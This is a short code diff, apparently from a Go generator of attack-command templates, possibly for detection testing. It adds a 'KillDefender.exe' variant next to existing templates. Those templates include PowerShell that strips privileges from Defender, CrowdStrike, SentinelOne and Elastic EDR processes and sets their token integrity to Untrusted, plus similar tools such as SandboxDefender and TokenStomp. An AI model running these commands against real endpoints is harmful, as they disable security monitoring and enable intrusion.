@@ -234,7 +234,7 @@ $p = Get-Process {{MsMpEng|MsSense|SentinelAgent|CSFalconService|elastic-endpoin
 [S]::AdjustTokenPrivileges($t, $true, [IntPtr]::Zero, 0, [IntPtr]::Zero, [IntPtr]::Zero)
 # TokenIntegrityLevel -> Untrusted
 [S]::SetTokenInformation($t, 25, $untrustedSid, $size)`,
-			`SandboxDefender.exe {{MsMpEng.exe|MsSense.exe|SentinelAgent.exe}}`,
+			`SandboxDefender.exe {{MsMpEng.exe|MsSense.exe|SentinelAgent.exe}}`, `{{KillDefender.exe|{{wtemp}}\KillDefender.exe}}`,
 			`TokenStomp.exe {{edrproc}}`,
 			`StripTokenPrivileges.exe -p {{edrproc}} -integrity untrusted`),
 		fam("token/tokenvator", c, "windows", Cmd,
